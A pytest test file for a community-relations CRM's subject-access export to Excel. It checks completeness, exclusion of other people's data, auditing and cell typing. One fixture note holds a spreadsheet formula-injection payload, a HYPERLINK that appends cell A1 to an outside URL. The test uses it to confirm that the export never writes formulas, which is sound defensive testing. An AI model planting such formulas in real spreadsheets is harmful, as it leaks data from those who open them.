"""Subject access: everything held about one person in one workbook, and nothing about anyone else."""
from __future__ import annotations

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from commrel.errors import Cancelled, ExchangeError, NotFound
from commrel.models import AuditEvent, Stakeholder
from commrel.progress import RecordingProgress
from commrel.services import concerns, engagement, event_participants, events, media, press
from commrel.services import stakeholders as svc
from commrel.services.subject_access import export_person

SHEETS = ["About", "Record", "Tags", "Memberships", "Relationships", "Interactions", "Events", "Concerns",
          "Concern timeline", "Media profile", "Media lists", "Media inquiries", "Press material sent", "Coverage",
          "Change history"]
# What only the other person's records hold; none of it may appear in Amina's workbook.
BOB = ["Bob", "Bobbington", "bob@example.org", "Bob's private note", "bob-only", "Bob alone on the phone",
       "Bob's noise complaint", "Bob's workshop", "Bob's beat", "07700 900999", "Bob's follow-up"]


@pytest.fixture
def people():
    """Amina, with something of every kind, and Bob, who shares an interaction and an event with her."""
    amina = svc.create(given_name="Amina", family_name="Diallo", email="amina@example.org", phone="07700 900123",
                       address="1 Mill Lane", postcode="AB1 2CD", neighbourhood="Riverside", consent=True,
                       consent_date=date(2025, 3, 1), consent_source="Sign-up form",
                       notes='=HYPERLINK("http://example.org/?x="&A1,"Click") said at the door',
                       tags=["Resident panel", "Dust"])
    bob = svc.create(given_name="Bob", family_name="Bobbington", email="bob@example.org", phone="07700 900999",
                     notes="Bob's private note", tags=["bob-only"])
    residents = svc.create(kind="organisation", display_name="Riverside Residents")
    traders = svc.create(kind="organisation", display_name="Harbour Traders")
    svc.add_membership(amina.id, residents.id, role="Chair")
    svc.add_relationship(amina.id, traders.id, "works_for", note="Part time")
    svc.update(amina.id, phone="07700 900456")

    engagement.log_interaction([amina.id], channel="call", summary="Called about dust",
                               occurred_at=datetime(2026, 3, 2, 9, 30), staff="Sam")
    engagement.log_interaction([amina.id, bob.id], channel="door_knock", summary="Doorstep chat",
                               occurred_at=datetime(2026, 3, 3, 17, 0), follow_up="Send leaflet",
                               follow_up_due=date(2026, 3, 10))
    engagement.log_interaction([bob.id], channel="call", summary="Bob alone on the phone",
                               follow_up="Bob's follow-up", follow_up_due=date(2026, 3, 9))

    town_hall = events.create(title="Town hall", starts_at=datetime(2026, 4, 1, 19, 0), timezone="Europe/London",
                              venue="Community centre")
    workshop = events.create(title="Bob's workshop", starts_at=datetime(2026, 4, 2, 19, 0), timezone="Europe/London")
    event_participants.invite(town_hall.id, [amina.id, bob.id])
    event_participants.invite(workshop.id, [bob.id])
    event_participants.set_rsvp(town_hall.id, amina.id, "accepted")
    event_participants.check_in(town_hall.id, amina.id)

    dust = concerns.intake(channel="phone", complainant_id=amina.id, summary="Dust on cars",
                           description="Cars on Mill Lane covered every morning", neighbourhood="Riverside",
                           received_at=datetime(2026, 3, 1, 8, 0))
    concerns.add_update(dust.id, "site_visit", "Site visited; sprinklers asked for")
    concerns.update(dust.id, priority="high")
    other = concerns.intake(channel="email", complainant_id=bob.id, summary="Bob's noise complaint")
    concerns.add_update(other.id, "note", "Bob's noise complaint noted")

    media.set_profile(amina.id, beat="Local planning", preferred_contact="email")
    media.set_profile(bob.id, beat="Bob's beat")
    press_list = media.create_list("Local press", "Weekly papers")
    media.add_to_list(press_list.id, [amina.id])
    media.log_inquiry(question="When do the works end?", journalist_id=amina.id)
    release = press.create(title="Works update", kind="release", status="approved", media_list_id=press_list.id)
    press.send(release.id)
    return amina, bob, dust


def _read(path):
    book = load_workbook(path)
    return book, {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


def test_the_workbook_holds_everything_about_the_person(tmp_path, people):
    amina, bob, dust = people
    path = export_person(amina.id, tmp_path / "amina.xlsx")
    book, sheets = _read(path)
    assert list(sheets) == SHEETS

    record = {field: value for field, value in sheets["Record"][1:]}
    assert len(sheets["Record"]) - 1 == len(Stakeholder._meta.sorted_fields)  # every field
    assert record["Commrel ID"] == amina.id and record["Email"] == "amina@example.org"
    assert record["Phone"] == "07700 900456" and record["Kind"] == "Person" and record["Type"] == "Resident"
    assert record["Consent"] is True and record["Consent date"] == datetime(2025, 3, 1)
    assert record["Notes"].startswith("=HYPERLINK(")
    assert record["Organisation"] == "Riverside Residents"

    assert sheets["Tags"][1:] == [["Dust"], ["Resident panel"]]
    assert sheets["Memberships"][1:] == [["Riverside Residents", "Chair"]]
    assert sheets["Relationships"][1:] == [["Works for", "Harbour Traders", "Part time"]]

    interactions = {row[3]: row for row in sheets["Interactions"][1:]}
    assert set(interactions) == {"Called about dust", "Doorstep chat", "Media inquiry: When do the works end?"}
    assert interactions["Doorstep chat"][1] == "Door-knock" and interactions["Doorstep chat"][9] == 1
    assert interactions["Doorstep chat"][5] == datetime(2026, 3, 10)  # a date cell (openpyxl reads it as midnight)
    assert interactions["Called about dust"][9] == 0

    assert [row[:1] + row[4:7] for row in sheets["Events"][1:]] == [["Town hall", "Guest", "Accepted", True]]
    assert isinstance(sheets["Events"][1][1], datetime) and sheets["Events"][1][2] == "Europe/London"

    assert [row[0] for row in sheets["Concerns"][1:]] == [dust.reference]
    concern = dict(zip(sheets["Concerns"][0], sheets["Concerns"][1]))
    assert concern["Summary"] == "Dust on cars" and concern["Priority"] == "High"
    assert isinstance(concern["Received"], datetime)
    timeline = [(row[0], row[2], row[3]) for row in sheets["Concern timeline"][1:]]
    assert (dust.reference, "Site visit", "Site visited; sprinklers asked for") in timeline
    assert {ref for ref, _, _ in timeline} == {dust.reference}

    assert [row[2] for row in sheets["Media profile"][1:]] == ["Local planning"]
    assert sheets["Media lists"][1:] == [["Local press", "Weekly papers"]]
    assert [row[1:3] for row in sheets["Media inquiries"][1:]] == [["Journalist", "When do the works end?"]]
    assert [row[1:] for row in sheets["Press material sent"][1:]] == [["Press release", "Works update"]]
    assert sheets["Coverage"][1:] == []

    history = [(row[2], row[4], row[5], row[6]) for row in sheets["Change history"][1:]]
    assert ("This record", "phone", "07700 900123", "07700 900456") in history
    assert ("This record", "organisation", None, "+Riverside Residents Chair") in history
    assert ("Concern " + dust.reference, "priority", "normal", "high") in history

    about = dict((row[0], row[1]) for row in sheets["About"][1:] if row and row[0])
    assert about["Person"] == f"Amina Diallo (Commrel ID {amina.id})"
    assert about["Interactions"] == 3 and about["Concern timeline"] == len(timeline)


def test_nothing_about_anyone_else(tmp_path, people):
    amina, bob, _ = people
    _, sheets = _read(export_person(amina.id, tmp_path / "amina.xlsx"))
    text = "\n".join(str(v) for rows in sheets.values() for row in rows for v in row if v is not None)
    for fragment in BOB:
        assert fragment not in text, fragment
    assert f"Commrel ID {bob.id})" not in text


def test_cells_are_typed_bold_headed_and_never_formulas(tmp_path, people):
    amina, _, _ = people
    book, _ = _read(export_person(amina.id, tmp_path / "amina.xlsx"))
    for ws in book.worksheets:
        assert all(cell.font.b for cell in ws[1] if cell.value is not None), ws.title
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
    notes = next(row[1] for row in book["Record"].iter_rows() if row[0].value == "Notes")
    assert notes.data_type == "s" and notes.quotePrefix
    received = book["Concerns"]["B2"]
    assert received.is_date and received.number_format == "yyyy-mm-dd hh:mm"


def test_the_export_is_audited_without_personal_data(tmp_path, people):
    amina, _, _ = people
    export_person(amina.id, tmp_path / "amina.xlsx")
    entry = AuditEvent.select().where(AuditEvent.action == "subject-access").get()
    assert entry.detail == f"stakeholder #{amina.id} exported" and "Amina" not in entry.detail


def test_progress_cancel_and_bad_requests(tmp_path, people):
    amina, _, _ = people
    progress = RecordingProgress()
    export_person(amina.id, tmp_path / "a.xlsx", progress=progress)
    assert progress.reports[-1][0] == progress.reports[-1][1]
    with pytest.raises(Cancelled):
        export_person(amina.id, tmp_path / "b.xlsx", progress=RecordingProgress(cancel_after=2))
    assert not (tmp_path / "b.xlsx").exists() and not list(tmp_path.glob(".*partial*"))
    with pytest.raises(ExchangeError, match="ending in .xlsx"):
        export_person(amina.id, tmp_path / "a.csv")
    with pytest.raises(NotFound):
        export_person(999_999, tmp_path / "c.xlsx")


def test_an_erased_person_exports_the_placeholder(tmp_path, people):
    from commrel.services import privacy

    amina, _, _ = people
    privacy.anonymise(amina.id)
    _, sheets = _read(export_person(amina.id, tmp_path / "erased.xlsx"))
    text = "\n".join(str(v) for rows in sheets.values() for row in rows for v in row if v is not None)
    assert "amina@example.org" not in text and "07700 900456" not in text
    assert dict((r[0], r[1]) for r in sheets["Record"][1:])["Anonymised"] is True
